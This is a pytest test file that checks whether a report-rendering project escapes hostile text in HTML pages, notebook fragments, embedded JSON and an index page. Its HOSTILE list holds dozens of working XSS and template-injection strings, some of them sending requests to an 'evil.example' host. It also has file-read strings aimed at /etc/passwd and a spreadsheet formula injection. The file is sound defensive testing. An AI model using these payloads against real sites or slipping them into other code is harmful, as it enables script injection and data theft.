"""Text from exports cannot become markup: a hostile text in every field changes no element."""

import json
import re
from collections import Counter
from dataclasses import replace
from functools import lru_cache

import pytest
from bs4 import BeautifulSoup

from hustings.page.blocks import Provenance
from hustings.page.index import Entry, index_page
from hustings.page.template import fragment, render

HOSTILE = [
    "<script>document.title='PWNED'</script>",
    "</script><script>document.title='PWNED'</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "x onmouseover=alert(1) y",
    "\" autofocus onfocus=alert(1) x=\"",
    "\" style=\"background:url(https://evil.example/x)",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</desc></svg><script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=x>",
    "<object data=https://evil.example/x>",
    "<embed src=https://evil.example/x>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>*{display:none}</style>",
    "<b>bold</b><br><i>it</i>",
    "{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}`+alert(1)+`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "a\u202egnp.exe\u202c b\u2066c\u2069",
    "zero\u200bwidth\ufeff\u00ad\u2060x",
    "nul\x00 bell\x07 esc\x1b[31m del\x7f c1\x9b",
    "line\u2028sep\u2029par\r\n\ttab",
    "lone \ud800 surrogate \udfff",
    "non\ufffecharacter\uffff",
    "tag\U000e0041\U000e0042chars",
    "ＡＢ＜script＞alert(1)＜/script＞",
    "javascript:alert(1)//\" `\\ onclick=alert(1)",
    "राँची</b><script>alert('क्ष')</script>\u200dज्\u200cञ",
    "=cmd|' /C calc'!A0",
    "x" * 300,
]  # fmt: skip

LOADING = {
    "src", "srcset", "data", "action", "formaction", "background", "poster", "ping", "manifest",
    "xlink:href", "cite", "longdesc",
}  # fmt: skip


def skeleton(page):
    """The kinds of element, each with its attributes' names."""
    soup = BeautifulSoup(page, "html.parser")
    return {(tag.name, tuple(sorted(tag.attrs))) for tag in soup.find_all(name=True)}


def counted(page, *names):
    soup = BeautifulSoup(page, "html.parser")
    return Counter(tag.name for tag in soup.find_all(names))


# Charts shorten and drop labels by their length, so that harmless texts of several lengths show
# every element a page can have.
HARMLESS = ("b", "a few", "a few words more than that", "many words " * 20)


@pytest.fixture(scope="module")
def benign(blocks, notebook, filled):
    return [render(notebook([filled(block, text) for block in blocks()])) for text in HARMLESS]


@pytest.fixture(scope="module")
def known(benign):
    return set().union(*map(skeleton, benign))


@pytest.fixture(scope="module")
def hostile_page(blocks, notebook, filled):
    return lru_cache(maxsize=None)(
        lambda text: render(notebook([filled(block, text) for block in blocks()]))
    )


def test_the_corpus_is_large():
    assert len(set(HOSTILE)) >= 50


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_in_every_field_adds_no_element_and_no_attribute(
    text, hostile_page, benign, known
):
    page = hostile_page(text)
    assert skeleton(page) <= known
    names = ("script", "style", "a", "meta", "link", "img", "svg", "form", "input", "section")
    assert counted(page, *names) == counted(benign[0], *names)


@pytest.mark.parametrize("text", HOSTILE)
def test_invisible_and_broken_letters_do_not_reach_the_page(text, hostile_page):
    page = hostile_page(text)
    page.encode("utf-8")  # a lone surrogate would raise
    kept = page.replace("\u200c", "").replace("\u200d", "").replace("\n", "")
    assert all(letter.isprintable() or letter == "\u00a0" for letter in kept)


def test_joiners_that_hindi_needs_stay(blocks, notebook, filled):
    page = render(notebook([filled(block, "क्\u200dष ज्\u200cञ") for block in blocks()]))
    assert "<h1>क्\u200dष ज्\u200cञ</h1>" in page


def test_hostile_text_is_shown_as_it_was_written(blocks, notebook, filled):
    text = "<b>Ranchi</b> & \"co\" 'x'"
    soup = BeautifulSoup(render(notebook([filled(b, text) for b in blocks()])), "html.parser")
    assert soup.h1.string == text
    assert {cell.get_text() for cell in soup.select("tbody th, tbody td")} == {text}


@pytest.mark.parametrize("text", HOSTILE)
def test_the_embedded_data_cannot_end_its_element_and_reads_back(text, blocks, notebook):
    head = blocks()[0]
    data = {"name": text, text: [text]}
    page = render(notebook([head, Provenance("s", (), data=data)]))
    block = BeautifulSoup(page, "html.parser").find("script", type="application/json")
    assert not set("<>&'") & set(block.string)
    read = json.loads(block.string)
    assert read["name"] in read
    assert read["name"] == read[read["name"]][0]
    if text.isprintable():
        assert read["name"] == text


@pytest.mark.parametrize("text", HOSTILE)
def test_what_jupyterlab_shows_is_escaped_too(text, blocks, filled):
    for block in blocks():
        if block.kind != "chart":  # drawn and escaped by the same code as above
            shown = fragment(filled(block, text))
            assert skeleton(shown) <= skeleton(fragment(filled(block, "b")))
            assert counted(shown, "script") == {}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_names_in_the_index_add_nothing(text):
    def page(said):
        entry = Entry(said, "2026-W46", said, said, f"{said}h", "block", (said,), {"en": "x.html"})
        below = replace(entry, unit=f"{said}2", parents=(said,), status="failed")
        return index_page([entry, below], sample=True)

    assert skeleton(page(text)) <= skeleton(page("b"))
    assert counted(page(text), "script", "a", "style") == counted(page("b"), "script", "a", "style")


@pytest.mark.parametrize("text", ["b", *HOSTILE[:12]])
def test_nothing_is_loaded_from_anywhere(text, blocks, notebook, filled):
    soup = BeautifulSoup(render(notebook([filled(b, text) for b in blocks()])), "html.parser")
    for tag in soup.find_all(name=True):
        assert not LOADING & set(tag.attrs), tag.name
        assert str(tag.attrs.get("href", "#")).startswith("#")
    for style in [*soup.find_all("style"), *soup.select("[style]")]:
        css = style.string if style.name == "style" else style["style"]
        assert not re.search(r"@import|url\((?!#)|image-set|src:", css)
